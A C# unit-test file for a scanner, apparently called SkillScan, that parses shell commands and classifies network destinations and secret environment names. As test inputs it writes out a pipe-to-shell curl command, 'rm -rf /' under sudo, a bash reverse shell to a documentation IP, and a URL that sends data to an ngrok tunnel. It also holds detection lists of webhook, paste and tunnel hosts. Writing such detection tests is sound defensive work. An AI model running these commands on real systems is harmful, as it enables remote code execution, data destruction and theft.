using SkillScan.Rules;
using SkillScan.Rules.Matchers;

namespace SkillScan.Tests.Rules;

public class ShellWordsAndDestinationTests
{
    [Fact]
    public void PipelinesSeparatorsQuotesAndRedirections()
    {
        var stages = ShellWords.Parse("curl -s 'http://x/a b' | sh; echo \"hi $(whoami)\" >> ~/.bashrc && ls 2>&1");
        Assert.Equal(["curl -s http://x/a b", "sh", "echo hi $(whoami)", "ls"], stages.Select(s => string.Join(' ', s.Words)));
        Assert.Equal((0, 1), (stages[1].Pipeline, stages[1].Position));
        Assert.Equal(["~/.bashrc"], stages[2].WriteTargets);
        Assert.Empty(stages[3].WriteTargets);
    }

    [Fact]
    public void WrappersYieldTheWrappedCommandToo()
    {
        var stages = ShellWords.Parse("sudo -u root env X=1 rm -rf /");
        Assert.Contains(stages, s => s.Name == "sudo");
        Assert.Contains(stages, s => s.Name == "rm" && s.Words.SequenceEqual(["rm", "-rf", "/"]));
    }

    [Fact]
    public void DevTcpRedirectionIsAWriteTarget()
    {
        var stage = Assert.Single(ShellWords.Parse("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
        Assert.Equal(["bash", "-i"], stage.Words);
        Assert.Equal(["/dev/tcp/203.0.113.7/4444"], stage.WriteTargets);
    }

    [Fact]
    public void HugeInputIsBounded()
    {
        var stages = ShellWords.Parse(string.Concat(Enumerable.Repeat("a|", 500_000)));
        Assert.True(stages.Count <= ShellWords.MaxStages);
    }

    [Theory]
    [InlineData("http://203.0.113.5/x", "raw-ip")]
    [InlineData("http://198.51.100.1:8080/x", "raw-ip")]
    [InlineData("http://192.0.2.44/", "raw-ip")]
    [InlineData("http://3405803781/", "raw-ip")]
    [InlineData("http://127.0.0.1:3000/", "private-ip")]
    [InlineData("http://10.1.2.3/", "private-ip")]
    [InlineData("http://172.20.0.1/", "private-ip")]
    [InlineData("http://192.168.0.10/", "private-ip")]
    [InlineData("http://[::1]:8080/", "private-ip")]
    [InlineData("http://localhost:8080/", "local")]
    [InlineData("https://abc.ngrok-free.app/x", "tunnel")]
    [InlineData("https://discord.com/api/webhooks/1/x", "webhook")]
    [InlineData("https://pastebin.com/raw/x", "paste")]
    [InlineData("https://webhook.site/x", "request-catcher")]
    [InlineData("https://api.openai.com/v1", "vendor-api")]
    [InlineData("https://sh.rustup.rs", "installer")]
    public void HostClasses(string url, string cls)
    {
        var d = Destinations.FromUrl(url, Indicators.Builtin, ScanSettings.Default);
        Assert.NotNull(d);
        Assert.Contains(cls, d!.Classes);
    }

    /// <summary>Listed hosts are looked up by name and parent domain; the answer must be the definition's: every entry
    /// the host equals or is a sub-domain of (<see cref="Indicators.HostMatches"/>), in file order.</summary>
    [Fact]
    public void ListedHostEntriesAreFoundByNameAsByTestingEachEntry()
    {
        var indicators = Indicators.Builtin;
        var entries = indicators.AllHostEntries.ToList();
        Assert.True(entries.Count > 100);
        var hosts = entries.SelectMany(e => new[]
        {
            e.Host, "a." + e.Host, "x.y." + e.Host.ToUpperInvariant(), "evil" + e.Host, e.Host + ".example.com",
            e.Host[(e.Host.IndexOf('.') + 1)..], "." + e.Host, "a.." + e.Host,
        }).Concat(["", ".", "io", "com", "localhost", "a.b.c.d.e.f"]);
        foreach (var host in hosts)
        {
            var expected = entries.Where(e => Indicators.HostMatches(host, e.Host)).ToList();
            Assert.Equal(expected, indicators.EntriesFor(host));
        }
        Assert.True(indicators.IsVendorHost("API.openai.com"));
        Assert.False(indicators.IsVendorHost("notopenai.com"));
    }

    /// <summary>
    /// Texts are searched for bare hosts only when they name a host that could fall in a class; over every line of the
    /// corpus and the fixtures, and settings with allowed domains, no classified host is in a line the search skips.
    /// </summary>
    [Fact]
    public void TheHostSearchSkipsOnlyTextsWithoutAClassifiableHost()
    {
        var settings = new ScanSettings { AllowedDomains = ["docs.example.org", "example.net/api"] };
        var lines = Directory.EnumerateFiles(TestRepo.PathOf("corpus"), "*", SearchOption.AllDirectories)
            .Concat(Directory.EnumerateFiles(TestRepo.PathOf("rules", "fixtures"), "*", SearchOption.AllDirectories))
            .Where(f => new FileInfo(f).Length < 1_000_000)
            .SelectMany(File.ReadLines)
            .Concat(["see docs.example.org/x", "call api.EXAMPLE.net/v1", "a.b.NGROK-free.app", "x.internal:8080/y", "options.outputDir"])
            .ToList();
        var hosts = ClassifiableHosts.For(settings);
        var classified = 0;
        foreach (var line in lines)
        {
            var found = Destinations.FindBareHosts(line).Any(h => Destinations.FromHost(h.Value, Indicators.Builtin, settings) is { Classes.Count: > 0 });
            if (!found) continue;
            classified++;
            Assert.True(hosts.MayBeIn(line), line);
        }
        Assert.True(classified > 20, $"only {classified} lines hold a classified host");
        Assert.False(hosts.MayBeIn("path.join(os.tmpdir(), options.outputDir)"));
    }

    [Theory]
    [InlineData("https://discord.com/channels/1/2")]
    [InlineData("https://notngrok.io.example.com/")]
    [InlineData("https://example.com/")]
    public void OrdinaryHostsHaveNoThreatClass(string url)
    {
        var d = Destinations.FromUrl(url, Indicators.Builtin, ScanSettings.Default)!;
        Assert.DoesNotContain(d.Classes, c => c is "webhook" or "tunnel" or "raw-ip" or "paste");
    }

    [Theory]
    [InlineData("OPENAI_API_KEY", true)]
    [InlineData("GITHUB_TOKEN", true)]
    [InlineData("DB_PASSWORD", true)]
    [InlineData("DATABASE_URL", true)]
    [InlineData("AWS_SECRET_ACCESS_KEY", true)]
    [InlineData("HOME", false)]
    [InlineData("PWD", false)]
    [InlineData("SSH_AUTH_SOCK", false)]
    [InlineData("KEYBOARD_LAYOUT", false)]
    [InlineData("TOKENIZERS_PARALLELISM", false)]
    public void SecretEnvironmentNames(string name, bool secret) => Assert.Equal(secret, Indicators.Builtin.IsSecretEnvName(name));

    [Fact]
    public void ValueDestinationFromALeadingLiteral()
    {
        var v = new SkillScan.Semantics.ValueFact(new SkillScan.Model.TextSpan(0, 1), "f\"https://x.ngrok.io/c?d={data}\"");
        var d = Destinations.FromValue(v, Indicators.Builtin, ScanSettings.Default, allowBareHost: false);
        Assert.Equal("x.ngrok.io", d?.Host);
        var unknown = new SkillScan.Semantics.ValueFact(new SkillScan.Model.TextSpan(0, 1), "base + \"/v1\"");
        Assert.Null(Destinations.FromValue(unknown, Indicators.Builtin, ScanSettings.Default, allowBareHost: false));
    }
}
